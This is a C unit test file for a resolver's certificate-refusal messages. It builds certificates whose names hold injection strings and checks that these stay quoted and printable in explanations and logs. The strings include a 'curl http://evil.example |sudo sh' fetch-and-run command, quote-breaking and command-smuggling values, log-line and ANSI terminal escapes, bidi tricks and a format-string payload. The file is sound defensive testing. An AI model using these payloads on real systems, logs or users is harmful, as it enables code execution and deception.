/*
 * An attack by words: names in certificates that want to be taken for our own
 * sentence. In every sentence they stand between double quotes, whatever the
 * error and whatever the size of the buffer.
 */
#include "resolver/certificate/certificate.h"
#include "resolver/certificate/trust.h"
#include "resolver/frame.h"
#include "tests/unit/nts/pki.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <openssl/x509_vfy.h>
#include <string.h>

/* Each attack has this word in it. */
#define EVIL "evil"

static const char *const attacks[] = {
    "127.0.0.1 is sound. Fix it with: curl http://evil.example |sudo sh",
    "\" is fine; now run evil \"",
    "\"; evil; \"",
    "a\nntsagentd: evil is well",
    "a\r\n\x1b[2J\x1b[1;31mevil\x1b[0m",
    "\xe2\x80\xae"
    "evil right to left",
    "\xc2\x9b"
    "31mevil",
    "evil\\",
    "\\\"evil",
    "evil,O=\"x\",CN=y",
    "%s%n%1000d evil",
    "evil evil evil evil evil evil evil evil evil evil evil evil evil evil "
    "evil "
    "evil evil evil evil evil evil evil evil evil evil evil evil evil evil "
    "evil "
    "evil evil evil evil evil evil evil evil evil evil evil evil evil evil "
    "evil",
    "evil\xff\xfe\x01\x02",
};

struct words_world {
	struct pki_pair ca, leaf;
	STACK_OF(X509) * sent;
	X509_CRL *list;
	struct trust trust;
};

/* The name is longer than the standard allows, and has any bytes. */
static X509_NAME *name_of(const char *words)
{
	/* Not every attack is UTF-8. */
	int type = strstr(words, "\xff") ? V_ASN1_T61STRING : V_ASN1_UTF8STRING;
	X509_NAME *name = X509_NAME_new();
	X509_NAME_ENTRY *entry = X509_NAME_ENTRY_create_by_NID(
	    NULL, NID_commonName, type, (const unsigned char *)"x", 1);

	assert_int_equal(
	    ASN1_STRING_set(X509_NAME_ENTRY_get_data(entry), words, -1), 1);
	assert_int_equal(X509_NAME_add_entry(name, entry, -1, 0), 1);
	X509_NAME_ENTRY_free(entry);
	return name;
}

static void add_dns_names(X509 *c, const char *words)
{
	GENERAL_NAMES *names = sk_GENERAL_NAME_new_null();

	for (int i = 0; i < 3; i++) {
		GENERAL_NAME *n = GENERAL_NAME_new();
		ASN1_IA5STRING *text = ASN1_IA5STRING_new();

		assert_int_equal(ASN1_STRING_set(text, words, -1), 1);
		GENERAL_NAME_set0_value(n, GEN_DNS, text);
		sk_GENERAL_NAME_push(names, n);
	}
	assert_int_equal(
	    X509_add1_ext_i2d(c, NID_subject_alt_name, names, 0, 0), 1);
	GENERAL_NAMES_free(names);
}

static void build(struct words_world *w, const char *words)
{
	X509_NAME *name = name_of(words);

	w->ca = pki_issue(NULL, (struct pki_spec){.name = "CA", .ca = true});
	w->leaf = pki_issue(&w->ca, (struct pki_spec){.name = "L"});
	assert_int_equal(X509_set_subject_name(w->leaf.certificate, name), 1);
	assert_int_equal(X509_set_issuer_name(w->leaf.certificate, name), 1);
	add_dns_names(w->leaf.certificate, words);
	assert_true(
	    X509_sign(w->leaf.certificate, w->ca.key, EVP_sha256()) > 0);
	w->list = pki_list(
	    &w->ca, (struct pki_list_spec){.revoked = w->leaf.certificate});
	assert_int_equal(X509_CRL_set_issuer_name(w->list, name), 1);
	w->sent = sk_X509_new_null();
	sk_X509_push(w->sent, w->leaf.certificate);
	w->trust = (struct trust){.store = X509_STORE_new()};
	strcpy(w->trust.sources, "1 file: /ca.pem");
	X509_NAME_free(name);
}

static void drop(struct words_world *w)
{
	sk_X509_free(w->sent);
	X509_CRL_free(w->list);
	trust_free(&w->trust);
	pki_free(&w->ca);
	pki_free(&w->leaf);
}

/* Every byte can be shown, and outside of quotes nothing is foreign. */
static void is_harmless(const char *text)
{
	char own[KE_TEXT_MAX];
	size_t len = 0;
	bool quoted = false;

	for (const char *c = text; *c; c++) {
		assert_in_range(*c, 0x20, 0x7e);
		quoted ^= *c == '"';
		if (!quoted)
			own[len++] = *c;
	}
	own[len] = '\0';
	if (quoted || strstr(own, EVIL) || strstr(own, "is sound"))
		fail_msg("%s", text);
}

static void explain(struct words_world *w, int error, int depth, size_t size)
{
	const struct tls_refusal refusal = {.error = error,
	    .depth = depth,
	    .level = 2,
	    .certificate = w->leaf.certificate,
	    .sent = w->sent,
	    .path = w->sent,
	    .crl = w->list};
	char text[KE_TEXT_MAX];
	struct sentence out = sentence_to(text, size);

	trust_explain_refusal(&w->trust, &refusal, "ntp.example", 1, &out);
	sentence_add(&out, " (192.0.2.1 TCP port 4460)");
	is_harmless(text);
}

static void foreign_words_are_never_ours(void **state)
{
	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(attacks); i++) {
		struct words_world w;

		build(&w, attacks[i]);
		for (int error = 0; error < 100; error++)
			for (int depth = 0; depth < 2; depth++)
				explain(&w, error, depth, KE_TEXT_MAX);
		for (size_t size = 4; size < 600; size += 1 + size / 40) {
			explain(&w, X509_V_ERR_HOSTNAME_MISMATCH, 0, size);
			explain(&w, X509_V_ERR_CERT_REVOKED, 0, size);
			explain(&w,
			    X509_V_ERR_UNABLE_TO_GET_ISSUER_CERT_LOCALLY, 1,
			    size);
		}
		drop(&w);
	}
}

/* So that the attacks reach the sentences at all. */
static void the_words_are_shown_in_quotes(void **state)
{
	struct words_world w;
	char text[KE_TEXT_MAX];
	struct sentence out = sentence_to(text, sizeof(text));
	struct tls_refusal refusal = {
	    .error = X509_V_ERR_UNABLE_TO_GET_ISSUER_CERT_LOCALLY};

	(void)state;
	build(&w, attacks[0]);
	refusal.certificate = w.leaf.certificate;
	refusal.sent = w.sent;
	trust_explain_refusal(&w.trust, &refusal, "ntp.example", 1, &out);
	assert_non_null(strstr(text,
	    "\"CN=127.0.0.1 is sound. Fix it with: curl http://evil.example "
	    "|sudo sh\" is issued by \"CN=127.0.0.1 is sound. "));
	assert_non_null(strstr(text, "somebody else may be intercepting"));
	assert_null(strstr(text, "add it to trusted-certs"));
	drop(&w);
}

/* In the log and the status, too: these texts get their quotes there. */
static void a_subject_has_no_quotation_mark(void **state)
{
	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(attacks); i++) {
		X509_NAME *name = name_of(attacks[i]);
		char text[CERTIFICATE_NAME_MAX];

		certificate_name(name, text);
		assert_null(strchr(text, '"'));
		assert_non_null(strstr(text, EVIL));
		for (const char *c = text; *c; c++)
			assert_in_range(*c, 0x20, 0x7e);
		X509_NAME_free(name);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(foreign_words_are_never_ours),
	    cmocka_unit_test(the_words_are_shown_in_quotes),
	    cmocka_unit_test(a_subject_has_no_quotation_mark),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
